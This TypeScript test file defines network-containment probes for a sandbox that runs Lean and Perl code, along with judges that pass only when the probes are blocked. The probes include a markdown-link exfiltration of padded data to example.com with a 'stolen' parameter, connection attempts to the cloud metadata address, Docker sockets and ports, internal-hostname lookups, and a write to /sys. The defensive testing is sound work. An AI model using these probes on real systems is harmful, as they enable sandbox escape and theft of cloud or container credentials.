import { contained, notCarriedOut, notContained, type Attack } from '../attack.ts';
import { all, describe, hasEnded, mustCountAtMost, mustRefuseAll, mustRefuseAllOnHost } from '../judges.ts';
import { elaborationStep, perlStep } from '../lean-programs.ts';
import { probe } from '../perl-probes.ts';

const addresses =
  '127.0.0.1:2375 127.0.0.1:80 169.254.169.254:80 172.17.0.1:22 172.17.0.1:2375 10.0.0.1:80 1.1.1.1:53 8.8.8.8:443';

/** Reaching anything at all. */
export const networkAttacks: readonly Attack[] = [
  {
    id: 'N2',
    tried: 'carrying data out in a result: links, and more than anybody reads',
    steps: [
      perlStep(
        probe(
          `print "![x](https://example.com/?stolen=", "QUJD" x 500000, ")\\n", "https://example.com/", "x" x 1000000, "\\n";`,
        ),
      ),
    ],
    judge: ([result], { maxKeptOutput }) => {
      if (result === undefined || !hasEnded(result)) return notCarriedOut(describe(result));
      const { stdout = '', truncated = {} } = result;
      if (stdout.length > 2 * maxKeptOutput) return notContained(`${stdout.length} characters came through`);
      const omitted = truncated.stdout_bytes ?? 0;
      return omitted === 0 ? notContained('what was left out was not told') : contained(`${omitted} bytes left out`);
    },
  },
  {
    id: 'N1',
    tried: 'connecting to this machine, its cloud and the internet',
    steps: [
      perlStep(
        probe(`use Socket; $SIG{ALRM} = sub { die };
for (qw(${addresses})) {
  my ($host, $port) = split ":";
  my $worked = socket(my $socket, PF_INET, SOCK_STREAM, 0);
  if ($worked) { $worked = eval { alarm 2; my $done = connect($socket, pack_sockaddr_in($port, inet_aton($host))); alarm 0; $done }; $worked ||= $!{ECONNREFUSED} && $host ne "127.0.0.1" }
  attempt("connect to $_", $worked);
}
socket(my $local, PF_UNIX, SOCK_STREAM, 0);
attempt("connect to $_", connect($local, pack_sockaddr_un($_))) for ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock");`),
      ),
    ],
    judge: mustRefuseAll,
  },
  {
    id: 'N1-names',
    tried: 'asking for names while Lean elaborates',
    steps: [
      elaborationStep(
        `perl -e '${probe('alarm 20; attempt("resolve $_", defined(gethostbyname($_))) for ("example.com", "host.docker.internal", "metadata.google.internal");')}'`,
      ),
    ],
    judge: mustRefuseAll,
  },
  {
    id: 'N1-devices',
    tried: 'finding a network device',
    steps: [
      perlStep(
        probe(`open(my $list, "<", "/proc/net/dev"); my @devices = grep { !/^\\s*lo:/ } grep { /:/ } <$list>; print "devices ", scalar(@devices), "\\n";
write_to("/sys/class/net/lo/mtu", "1500");`),
      ),
    ],
    judge: all(
      mustRefuseAllOnHost,
      mustCountAtMost(() => ({ devices: 0 })),
    ),
  },
];
